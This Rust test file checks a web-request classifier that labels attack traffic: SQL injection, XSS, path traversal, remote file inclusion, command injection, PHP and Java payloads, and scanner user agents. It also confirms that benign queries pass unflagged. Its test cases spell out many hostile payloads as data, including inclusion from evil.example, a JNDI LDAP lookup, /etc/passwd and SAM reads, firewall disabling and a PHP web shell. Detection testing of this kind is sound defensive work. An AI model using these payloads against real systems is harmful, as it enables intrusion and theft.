use super::*;
use std::borrow::Cow;

fn req(target: &str, ua: &str) -> Verdict {
    let h = Http {
        time: 0,
        method: Cow::Borrowed("GET"),
        target: Cow::Owned(target.to_string()),
        protocol: Cow::Borrowed("HTTP/1.1"),
        status: 200,
        user_agent: Some(Cow::Owned(ua.to_string())),
        ..Http::default()
    };
    Classifier::default().http(&h)
}

fn class_of(target: &str) -> Option<Class> {
    req(
        target,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    )
    .classes
    .primary()
}

#[test]
fn attacks_by_class() {
    let cases: &[(&str, Class)] = &[
        ("/item?id=1%27%20OR%20%271%27=%271", Class::Sqli),
        ("/item?id=1+UNION+ALL+SELECT+NULL,NULL--", Class::Sqli),
        ("/s?q=1'%20AND%20SLEEP(5)--", Class::Sqli),
        ("/s?id=1;DROP+TABLE+users", Class::Sqli),
        ("/s?id=-1%20UNION/**/SELECT%201,2,3", Class::Sqli),
        ("/s?id=1'", Class::Sqli),
        ("/s?id=1%20and%201=1", Class::Sqli),
        ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", Class::Xss),
        (
            "/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            Class::Xss,
        ),
        ("/s?q=javascript:alert(document.cookie)", Class::Xss),
        (
            "/s?q=%253Csvg%2Fonload%253Dalert%25281%2529%253E",
            Class::Xss,
        ),
        ("/s?q=&#x3C;script&#x3E;", Class::Xss),
        ("/download?file=../../../../etc/passwd", Class::Lfi),
        (
            "/download?file=..%252f..%252f..%252fetc%252fpasswd",
            Class::Lfi,
        ),
        ("/static/..%c0%af..%c0%afwindows/win.ini", Class::Lfi),
        ("/index.php?page=http://203.0.113.7/shell.txt?", Class::Rfi),
        (
            "/index.php?include=https://evil.example/c99.txt",
            Class::Rfi,
        ),
        ("/ping?host=127.0.0.1;cat%20/etc/passwd", Class::Rce),
        ("/ping?host=x%7Cwhoami", Class::Rce),
        // Fuzzer traversals whose separators stay undecodable, overlong UTF-8 of every length.
        ("/d?file=%c0.%c0.0x2f%c0.%c0.0x2fboot.ini", Class::Lfi),
        ("/d?file=..%01%bg%qf..%01%bg%qfetc%bg%qfpasswd", Class::Lfi),
        (
            "/d?file=.%00.%%35%%63.%00.%%35%%63etc%%35%%63issue",
            Class::Lfi,
        ),
        (
            "/d?file=%e0%80%ae%e0%80%ae%c1%af%e0%80%ae%e0%80%ae%c1%afetc",
            Class::Lfi,
        ),
        (
            "/d?file=%f8%80%80%80%ae%f8%80%80%80%ae%f8%80%80%80%afetc",
            Class::Lfi,
        ),
        // Commands after a literal \n, an encoded &, a quote; Windows administration.
        ("/ping?host=%5Cnid%5Cn", Class::Rce),
        ("/ping?host=%26%20netstat%20-an", Class::Rce),
        ("/ping?host=%22%20whoami", Class::Rce),
        (
            "/ping?host=;%20netsh%20firewall%20set%20opmode%20disable",
            Class::Rce,
        ),
        ("/ping?host=type%20%SYSTEMROOT%%5Crepair%5CSAM", Class::Rce),
        (
            "/ping?host=reg%20add%20%22HKLM%5CSystem%22%20/v%20x",
            Class::Rce,
        ),
        (
            "/ping?host=%7B%7B%20get_user_file(%22/etc/hosts%22)%20%7D%7D",
            Class::Rce,
        ),
        ("/x?a=while(!0);", Class::Rce),
        ("/x?constructor%5Bprototype%5D%5Btest%5D=1", Class::Rce),
        // PHP: computed callees, dynamic calls, ssh2 wrappers.
        ("/x?x=%28sy.%28st%29.em%29%28%27uname%27%29%3B", Class::Php),
        ("/x?x=%5bsystem%5d%5b0%5d%28ls%29%3B", Class::Php),
        ("/x?%24foo-%3E%24funcname%28%29", Class::Php),
        ("/x?x=$%7B@print(md5(1))%7D", Class::Php),
        (
            "/x?file=ssh2.sftp://user:pw@example.com:22/path/file",
            Class::Php,
        ),
        // Server-side request forgery by internal host name.
        ("/x?url=host.docker.internal/", Class::Rfi),
        ("/x?url=http%3A%2F%2Flocalhost%2F", Class::Rfi),
        ("/x?cmd=$(id)", Class::Rce),
        ("/x?name={{7*7}}", Class::Rce),
        ("/x?a=<?php%20system($_GET['c']);%20?>", Class::Php),
        (
            "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            Class::Php,
        ),
        (
            "/x?f=php://filter/convert.base64-encode/resource=index.php",
            Class::Php,
        ),
        ("/x?a=${jndi:ldap://198.51.100.1:1389/a}", Class::Java),
        ("/x?a=${${lower:j}ndi:${lower:l}dap://x/a}", Class::Java),
        (
            "/struts?redirect:%25{(%23a=new%20java.lang.ProcessBuilder(%22id%22))}",
            Class::Java,
        ),
        (
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            Class::Java,
        ),
        ("/.env", Class::Lfi), // restricted file (also scanner: a probe path)
        ("/.git/config", Class::Lfi),
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            Class::Scanner,
        ),
        ("/wp-login.php", Class::Scanner),
        // Found by the HttpParamsDataset holdout: blind command-injection probes (execution
        // proved by a no-op in backticks, or by the delay of pinging the loopback N times),
        // RSnake's XSS locator, a quote that closes a link, IE's HTML+TIME namespace.
        ("/p?host=%60true%60", Class::Rce),
        ("/p?host=%22%60false%60%22", Class::Rce),
        ("/p?host=ping.exe%20-n%2031%20127.0.0.1", Class::Rce),
        ("/p?host=ping%20-i%2030%20127.0.0.1", Class::Rce),
        ("/s?q='';!--%22%3CXSS%3E=%26%7B()%7D", Class::Xss),
        ("/s?q=%22http://x.example./%22%3Exss%3C/a%3E", Class::Xss),
        // Found by reading fuzzdb's misses: T-SQL's dynamic exec, a concatenated call.
        (
            "/item?id='%20%7C%7C%20myappadmin.adduser('admin',%20'newpass')%20%7C%7C%20'",
            Class::Sqli,
        ),
        ("/item?id=';%20or%20'1'='1'", Class::Sqli),
    ];
    let mut wrong = Vec::new();
    for (t, c) in cases {
        let got = class_of(t);
        if got != Some(*c) {
            wrong.push(format!(
                "{t}: expected {c:?}, got {got:?} ({:?})",
                req(t, "x").rule
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // `<?` also reads as PHP's open tag and `exec(` as PHP's call, so the class asked for is
    // one class of these, not the primary one.
    for (t, c) in [
        (
            "/s?q=%3C%3Fxml:namespace%20prefix=%22t%22%20ns=%22urn:schemas-microsoft-com:time%22%3E",
            Class::Xss,
        ),
        (
            "/s?q=%3C%3Fimport%20namespace=%22t%22%20implementation=%22%23default%23time2%22%3E",
            Class::Xss,
        ),
        ("/item?id=0x77616974666f722064656c6179%20exec(@s)", Class::Sqli),
    ] {
        assert!(req(t, "x").classes.contains(c), "{t}");
    }
}

#[test]
fn user_agents() {
    assert_eq!(
        req("/", "sqlmap/1.7.2#stable (https://sqlmap.org)")
            .classes
            .primary(),
        Some(Class::Scanner)
    );
    assert_eq!(
        req("/", "Mozilla/5.00 (Nikto/2.1.6)").classes.primary(),
        Some(Class::Scanner)
    );
    assert_eq!(
        req("/", "() { :; }; /bin/bash -c 'id'").classes.primary(),
        Some(Class::Rce)
    );
    assert_eq!(
        req("/", "${jndi:ldap://x/a}").classes.primary(),
        Some(Class::Java)
    );
    for ok in [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
        "UptimeRobot/2.0 (http://www.uptimerobot.com/)",
        "curl/8.5.0",
        "python-requests/2.31.0",
    ] {
        assert!(req("/", ok).classes.is_empty(), "{ok}: {:?}", req("/", ok));
    }
}

#[test]
fn benign_requests() {
    let benign = [
        "/",
        "/rezultate?judet=Bra%C8%99ov&sectie=12",
        "/cautare?q=O%27Reilly+books",
        "/search?q=%22best+pizza%22+near+me",
        "/search?q=rock+%27n%27+roll",
        "/search?q=select+one+from+the+list",
        "/search?q=who+won+the+election%3F",
        "/search?q=c%C3%A2nd+se+anun%C8%9B%C4%83+rezultatele%3F",
        "/api/v1/results?round=1&format=json&fields=candidate,votes,percent",
        "/static/js/app.3f2a9c.js",
        "/assets/img/logo@2x.png",
        "/news/2024/11/19/comunicat-de-presa-nr-12",
        "/search?q=drop+off+locations+and+hours",
        "/search?q=union+station",
        "/page?id=42&sort=desc&order=name",
        "/login?next=%2Fdashboard",
        "/oauth/callback?code=abc123&state=xyz&redirect_uri=https%3A%2F%2Fbec.ro%2Fcb",
        "/search?q=tom+%26+jerry",
        "/search?q=1+%2B+1+%3D+2",
        "/docs?q=how+to+use+select+in+sql",
        "/s?q=ce+%C3%AEnseamn%C4%83+%E2%80%9Evot+nul%E2%80%9D",
        "/favicon.ico",
        "/robots.txt",
        "/sitemap.xml",
        "/.well-known/security.txt",
        "/search?q=email%40example.com",
        "/calendar?from=2024-11-01&to=2024-11-30",
        "/s?q=AT%26T+or+Verizon",
        "/s?q=what+is+1%3D1",
        "/search?q=search+%26+find",
        "/search?q=cut+%26+paste+%26+sort",
        "/search?q=what+does+%24%7Bname%7D+mean",
        "/search?q=wait...+what..+ok",
        "/status?server=localhost",
        "/s?q=C%3A%5Cnew%5Cfolder",
        "/s?q=while(!true)",
        "/s?q=(a)+(b)",
        "/s?q=dog+%7C+cat",
        "/s?q=it%27s+and+that%27s",
        "/api/users?fields=id|name|email",
        "/search?q=%22ping+pong%22+results",
        "/search?q=she+said+%22hi%22+and+left",
        "/search?q=ping+-+the+network+tool",
    ];
    let flagged: Vec<String> = benign
        .iter()
        .filter_map(|t| {
            let v = req(t, "Mozilla/5.0");
            (!v.classes.is_empty()).then(|| format!("{t}: {:?} {:?}", v.classes.names(), v.rule))
        })
        .collect();
    assert!(flagged.is_empty(), "{}", flagged.join("\n"));
}

#[test]
fn logins_and_protocol() {
    let h = Http {
        method: Cow::Borrowed("POST"),
        target: Cow::Borrowed("/wp-login.php"),
        protocol: Cow::Borrowed("HTTP/1.1"),
        status: 200,
        ..Http::default()
    };
    assert_eq!(Classifier::default().http(&h).login, Some(Login::Failure));
    let h = Http {
        method: Cow::Borrowed("CONNECT"),
        target: Cow::Borrowed("example.com:443"),
        protocol: Cow::Borrowed("HTTP/1.1"),
        status: 400,
        ..Http::default()
    };
    assert_eq!(
        Classifier::default().http(&h).classes.primary(),
        Some(Class::Protocol)
    );
    assert_eq!(waf_class(942100, &[]), Some(Class::Sqli));
    assert_eq!(waf_class(949110, &[]), None);
}
